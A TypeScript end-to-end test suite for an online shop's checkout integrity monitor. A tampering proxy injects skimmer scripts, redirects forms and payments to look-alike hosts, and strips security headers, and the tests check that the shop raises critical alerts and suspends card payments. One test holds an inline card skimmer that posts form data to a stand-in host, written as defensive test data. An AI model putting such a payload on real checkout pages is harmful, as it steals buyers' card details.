import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { after, before, describe, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { OrderAdminService } from '../../src/checkout/admin-service.js';
import { walkBuyerPath } from '../../src/integrity/monitor/runner.js';
import { postObservation } from '../../src/integrity/monitor/loop.js';
import { monitorEmail } from '../../src/integrity/monitor/identity.js';
import { installAlertResponse } from '../../src/integrity/response.js';
import { signedInStaff, freshCode } from '../helpers/admin.js';
import { Client } from '../helpers/browser-client.js';
import { DIALECTS, startTestShop, type TestShop } from '../helpers/shop.js';
import { startTamperProxy as startProxy } from '../helpers/tamper-proxy.js';
import { launchBrowser, skip as noChromium, type BrowserHandle } from '../e2e/helpers.js';

/**
 * Layer 3 end to end: a real shop, the sandbox provider, real Chromium walking the buyer path, and
 * the shop comparing each walk with the approved baseline. Tampering is done the way an attacker
 * between the shop and its buyers would (a compromised proxy or CDN): a small HTTP proxy in front
 * of the shop rewrites what the buyer gets. The monitor walks the proxy, so it sees what buyers see.
 *
 *   node --import tsx --test --test-concurrency=1 test/integrity/monitor.test.ts
 */

/** The secret `signedInStaff` enrols every test account with. */
const HELPER_SECRET = 'JBSWY3DPEHPK3PXP';

for (const { dialect, skip } of DIALECTS) {
  describe(`external monitor (Chromium) on ${dialect}`, { skip: skip || noChromium }, () => {
    let shop: TestShop;
    let proxy: Awaited<ReturnType<typeof startProxy>>;
    let lookalike: Server;
    let lookalikeUrl: string;
    let handle: BrowserHandle;
    let browser: Browser;
    let token: string;
    const services = () => shop.shop.services;
    const db = () => services().handle.db;

    before(async () => {
      shop = await startTestShop({ dialect });
      // The automatic response, exactly as startIntegrity installs it (the file watcher is not needed here).
      installAlertResponse({ alerts: services().alerts, killSwitch: services().killSwitch, db: db(), mailTo: async () => [] });
      proxy = await startProxy(shop.url);
      lookalike = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end('<!doctype html><title>pay</title><form method="post"><input name="cardnumber" autocomplete="cc-number"></form>'));
      await new Promise<void>((r) => lookalike.listen(0, '127.0.0.1', r));
      const a = lookalike.address();
      lookalikeUrl = `http://127.0.0.1:${typeof a === 'object' && a ? a.port : 0}`;
      handle = await launchBrowser();
      browser = handle.browser;
      token = services().monitorToken;
    });
    after(async () => {
      await handle?.close();
      await proxy?.close();
      lookalike?.closeAllConnections();
      await new Promise<void>((r) => (lookalike ? lookalike.close(() => r()) : r()));
      await shop?.close();
    });

    /** One walk through the proxy, reported to the shop (through the proxy too, as a remote monitor would). */
    const walk = async () => {
      const t0 = Date.now();
      const observation = await walkBuyerPath(browser, { shopUrl: proxy.url, token, productPath: '/products/fukamushi-sencha', trace: process.env.MONITOR_TEST_TIMES ? (p) => console.log(`  ${Date.now() - t0} ms ${p}`) : undefined });
      if (process.env.MONITOR_TEST_TIMES) console.log(`  ${Date.now() - t0} ms walked`, observation.error, JSON.stringify(observation.steps.map((s) => s.blocked)));
      const result = await postObservation(proxy.url, token, observation);
      assert.ok(result);
      if (process.env.MONITOR_TEST_TIMES) console.log(`walk: ${Date.now() - t0} ms`);
      return { observation, result };
    };
    const reset = async () => {
      proxy.tamper = {};
      for (const a of await services().alerts.listOpen()) await services().alerts.resolve(a.id, 'test');
      await services().killSwitch.set('enabled', 'test', 'reset between scenarios');
    };

    test('the report endpoint wants the monitor token', async () => {
      const res = await fetch(`${shop.url}/integrity/monitor/runs`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer wrong-token-wrong-token-wrong-token' }, body: '{}' });
      assert.equal(res.status, 401);
      const bad = await fetch(`${shop.url}/integrity/monitor/runs`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` }, body: '{"version":1}' });
      assert.equal(bad.status, 400);
      assert.equal((await db().selectFrom('monitor_runs').select('id').execute()).length, 0);
    });

    test('the first clean walk becomes the pending baseline; its order is not a sale and gives its stock back', async () => {
      const variant = await db().selectFrom('variants').select(['id', 'stock']).where('sku', '=', 'GT-SEN-100').executeTakeFirstOrThrow();
      const { observation, result } = await walk();
      assert.equal(observation.error, null);
      assert.deepEqual(observation.steps.map((s) => s.step), ['product', 'cart', 'checkout', 'confirm', 'provider']);
      assert.equal(observation.providerOrigin, new URL(shop.pspUrl).origin);
      const checkout = observation.steps.find((s) => s.step === 'checkout')!;
      assert.ok(checkout.scripts.some((s) => s.kind === 'external' && s.src?.startsWith(`${proxy.url}/static/`) && s.sha384), 'the shop script with its SHA-384');
      assert.match(checkout.headers['content-security-policy'] ?? '', /script-src 'self'/);
      assert.ok(checkout.forms.some((f) => f.action === `${proxy.url}/checkout/confirm`));
      assert.equal(result!.outcome, 'no_baseline');
      assert.deepEqual(result!.differences, []);
      assert.deepEqual(await services().alerts.listOpen(), []);

      // The monitor's order: marked, cancelled, its stock back, absent from the order list and sales.
      const orders = await db().selectFrom('orders').selectAll().execute();
      assert.equal(orders.length, 1);
      assert.equal(orders[0]!.is_monitor, 1);
      assert.equal(orders[0]!.orderer_email, monitorEmail(token));
      assert.equal(orders[0]!.status, 'cancelled');
      assert.equal(orders[0]!.stock_released, 1);
      assert.equal((await db().selectFrom('variants').select('stock').where('id', '=', variant.id).executeTakeFirstOrThrow()).stock, variant.stock);
      const admin = new OrderAdminService(db(), services().orders, services().payments, services().settings, services().audit);
      assert.equal((await admin.search({ status: null, payment: null, from: null, to: null, q: null }, 1, 50)).total, 0);
      assert.equal((await admin.forExport({ status: null, payment: null, from: null, to: null, q: null }, { shippable: false })).length, 0);
      // Even a monitor order that looked paid would not count as a sale.
      await db().updateTable('orders').set({ status: 'paid', payment_status: 'paid' }).where('is_monitor', '=', 1).execute();
      assert.equal((await admin.todayStats()).count, 0);
      assert.equal((await admin.salesByDay(7)).reduce((n, d) => n + d.count, 0), 0);
      await db().updateTable('orders').set({ status: 'cancelled', payment_status: 'cancelled' }).where('is_monitor', '=', 1).execute();
      assert.equal((await services().killSwitch.isSuspended()), false);

      // The admin page says there is no approved baseline.
      const sec = new Client(shop.url);
      await signedInStaff(services(), sec, 'security', 'sec-monitor@example.jp');
      const page = await sec.get('/admin/security/monitor');
      assert.equal(page.status, 200);
      assert.match(page.html, /data-baseline="none"/);
      assert.match(page.html, /no baseline approved/);
      // A staff member without the security role cannot approve.
      const clerk = new Client(shop.url);
      await signedInStaff(services(), clerk, 'staff', 'clerk-monitor@example.jp');
      assert.equal((await clerk.get('/admin/security/monitor')).status, 403);
      // Approval needs a reason and a current second-factor code; it is audited.
      const runId = /name="run_id" value="(mrn_[0-9A-Z]{16})"/.exec(page.html)?.[1];
      assert.ok(runId);
      const wrong = await sec.post('/admin/security/monitor/approve', { run_id: runId, reason: '初回の基準', code: '000000' });
      assert.equal(wrong.status, 422);
      assert.equal((await db().selectFrom('monitor_baselines').select('id').execute()).length, 0);
      const ok = await sec.post('/admin/security/monitor/approve', { run_id: runId, reason: '初回の基準（リリース確認済み）', code: await freshCode(HELPER_SECRET) });
      assert.equal(ok.status, 200);
      assert.match(ok.html, /基準として承認しました/);
      assert.match(ok.html, /data-baseline="approved"/);
      const audit = await db().selectFrom('audit_log').selectAll().where('action', '=', 'integrity.monitor_baseline_approve').execute();
      assert.equal(audit.length, 1);
      assert.equal(audit[0]!.actor, 'staff:sec-monitor@example.jp');
      assert.match(audit[0]!.detail ?? '', new RegExp(runId));
    });

    test('with the baseline approved the next walk is clean', async () => {
      const { result } = await walk();
      assert.equal(result!.outcome, 'clean', JSON.stringify(result!.differences));
      assert.deepEqual(await services().alerts.listOpen(), []);
      assert.equal(await services().killSwitch.isSuspended(), false);
    });

    const tampered = (name: string, fn: () => Promise<void>) => test(name, async () => {
      try {
        await fn();
      } finally {
        await reset();
      }
    });

    const expectCritical = async (kind: string, step: string) => {
      const { result } = await walk();
      const found = result!.differences.filter((d) => d.kind === kind);
      assert.ok(found.length > 0, `${kind} among ${JSON.stringify(result!.differences)}`);
      assert.ok(found.some((d) => d.severity === 'critical' && d.step === step), `critical ${kind} on ${step}: ${JSON.stringify(found)}`);
      const alerts = (await services().alerts.listOpen()).filter((a) => a.kind === kind);
      assert.ok(alerts.some((a) => a.severity === 'critical'));
      const evidence = JSON.parse(alerts[0]!.evidence ?? '{}') as { diff?: string };
      assert.match(evidence.diff ?? '', /^[-+!] /m, 'the evidence is a readable diff');
      const state = await services().killSwitch.state();
      assert.equal(state.state, 'suspended');
      assert.equal(state.actor, 'system:integrity');
      // The first critical finding of the walk is the reason given (an outside script is also an outside host).
      const criticalKinds = result!.differences.filter((d) => d.severity === 'critical').map((d) => d.kind);
      assert.ok(criticalKinds.some((k) => state.reason?.startsWith(`${k}:`)), state.reason ?? '');
      return { result, alerts };
    };

    tampered('an outside <script src> injected into the checkout page: critical, card payments suspended', async () => {
      proxy.tamper = { html: (path, html) => (path === '/checkout' ? html.replace('</head>', '<script src="https://cdn.skimmer.example/jquery.min.js"></script></head>') : html) };
      const { alerts } = await expectCritical('unknown_script_payment_path', 'checkout');
      assert.match(JSON.parse(alerts[0]!.evidence!).diff as string, /\+ script https:\/\/cdn\.skimmer\.example\/jquery\.min\.js/);
      // While card payments are suspended the walk stops at the checkout form; that is not a difference of its own.
      const { observation, result } = await walk();
      assert.equal(observation.cardUnavailable, true);
      assert.deepEqual([...new Set(result!.differences.map((d) => d.kind))].sort(), ['unknown_host_payment_path', 'unknown_script_payment_path']);
      assert.ok(result!.differences.every((d) => d.step === 'checkout'), 'no difference for the steps it could not reach');
    });

    tampered('an inline skimmer on the confirmation page', async () => {
      proxy.tamper = { html: (path, html) => (path === '/checkout/confirm' ? html.replace('</body>', '<script>document.forms[0].addEventListener("submit",()=>fetch("https://x.example/c",{method:"POST",body:new FormData(document.forms[0])}))</script></body>') : html) };
      await expectCritical('unknown_script_payment_path', 'confirm');
    });

    tampered('the confirmation form posting elsewhere: form_action_changed', async () => {
      proxy.tamper = { html: (path, html) => (path === '/checkout/confirm' ? html.replace('action="/checkout/place"', 'action="https://collect.example/place"') : html) };
      await expectCritical('form_action_changed', 'confirm');
    });

    tampered('a card field on the checkout page: card_field_on_shop_page', async () => {
      proxy.tamper = { html: (path, html) => (path === '/checkout' ? html.replace('</form>', '<label>カード番号<input name="card_number" autocomplete="cc-number"></label></form>') : html) };
      await expectCritical('card_field_on_shop_page', 'checkout');
    });

    tampered('the provider redirect going to a look-alike origin: redirect_target_changed', async () => {
      proxy.tamper = { location: (path, location) => (path === '/checkout/place' ? location.replace(new URL(shop.pspUrl).origin, lookalikeUrl) : location) };
      await expectCritical('redirect_target_changed', 'redirect');
    });

    tampered('the CSP removed from the checkout page: security_header_changed, critical', async () => {
      proxy.tamper = { dropHeaders: (path) => (path === '/checkout' ? ['content-security-policy'] : []) };
      const { alerts } = await expectCritical('security_header_changed', 'checkout');
      assert.match(JSON.parse(alerts[0]!.evidence!).diff as string, /\+ content-security-policy: \(none\)/);
    });

    tampered('a changed non-critical header is a warning and does not suspend', async () => {
      proxy.tamper = { dropHeaders: (path) => (path === '/products/fukamushi-sencha' ? ['referrer-policy'] : []) };
      const { result } = await walk();
      assert.deepEqual(result!.differences.map((d) => `${d.kind}:${d.severity}`), ['security_header_changed:warning']);
      assert.equal(await services().killSwitch.isSuspended(), false);
    });
  });
}
